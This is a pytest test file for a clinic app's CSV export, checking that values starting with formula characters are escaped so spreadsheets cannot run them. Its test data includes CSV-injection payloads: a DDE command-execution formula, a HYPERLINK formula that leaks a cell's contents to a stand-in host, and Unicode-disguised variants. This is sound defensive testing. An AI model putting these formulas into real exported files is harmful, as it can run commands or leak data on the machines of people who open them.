"""CSV that spreadsheets open rightly, and in which nothing runs."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic_app import csv_files, phones

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
    "+61491570006",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tRobin",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u0000=1+1",
    "﹢1",
]
HARMLESS = ["Robin Sample", "a=b", "1-2", "robin@example.org", "", "'quoted'", "（=1）", "—said Robin"]


def read(header, rows):
    text = "".join(csv_files.lines(header, rows))
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_could_run_becomes_text(text):
    assert read(["Name"], [[text]]) == [["Name"], ["'" + text]]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert read(["Name"], [[text]]) == [["Name"], [text]]


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_no_text_at_all_begins_as_a_formula(text):
    shown = csv_files.harmless(text)
    assert shown.strip()[:1] not in ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    assert shown in (text, "'" + text)


@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=2, max_size=2), max_size=20))
def test_whatever_stands_in_cells_stays_in_its_cell(rows):
    assert read(["A", "B"], rows)[1:] == [[csv_files.harmless(text) for text in row] for row in rows]


def test_a_file_has_the_mark_that_excel_wants_and_ends_its_lines_as_rfc_4180_says():
    assert list(csv_files.lines(["Week", "Count"], [["one", 3]])) == ['\ufeff"Week","Count"\r\n"one",3\r\n']


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell():
    assert "".join(csv_files.lines(["A", "B", "C"], [[-3, 0.25, None]])).endswith('-3,0.25,""\r\n')


def test_instants_are_told_in_the_clinics_zone_and_days_as_days(app):
    at = datetime(2026, 11, 23, 22, 30, tzinfo=UTC)
    assert read(["At", "Day"], [[at, date(2026, 11, 24)]])[1] == ["2026-11-24T09:30:00+11:00", "2026-11-24"]


def test_a_long_file_comes_in_pieces():
    rows = ([number] for number in range(1000))
    pieces = csv_files.lines(["Number"], rows)
    next(pieces)
    assert next(rows)[0] <= csv_files.LINES_AT_ONCE, "the first piece must not wait for the last row"
    assert sum(piece.count("\r\n") for piece in pieces) > 800


@pytest.mark.parametrize(
    ("kept", "written"),
    [
        ("+61491570006", "0491 570 006"),
        ("+61255500142", "(02) 5550 0142"),
        ("+442079460018", "0011 44 20 7946 0018"),
        ("", ""),
    ],
)
def test_phone_numbers_are_written_as_the_clinic_dials_them_and_need_no_apostrophe(kept, written):
    assert phones.dialled(kept, "AU") == written
    assert csv_files.harmless(written) == written
